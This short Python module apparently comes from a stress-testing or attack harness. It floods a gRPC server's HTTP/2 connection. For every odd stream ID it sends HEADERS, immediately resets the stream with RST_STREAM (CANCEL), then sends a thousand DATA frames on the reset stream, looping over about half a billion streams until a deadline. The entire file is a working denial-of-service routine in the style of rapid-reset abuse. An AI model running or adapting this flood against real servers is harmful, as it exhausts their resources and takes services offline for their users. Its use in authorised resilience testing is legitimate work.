"""DATA frames on streams that were opened and reset."""

import struct

from wire import DATA, END_HEADERS, GET, HEADERS, PREFACE, RST_STREAM, flood_connection, frame, settings


def chunks():
    for stream in range(1, 1 << 30, 2):
        ended = frame(HEADERS, END_HEADERS, stream, GET) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        yield ended + frame(DATA, 0, stream, b"late") * 1_000


def flood(target, until):
    return flood_connection(target.grpc, until, PREFACE + settings(), chunks)
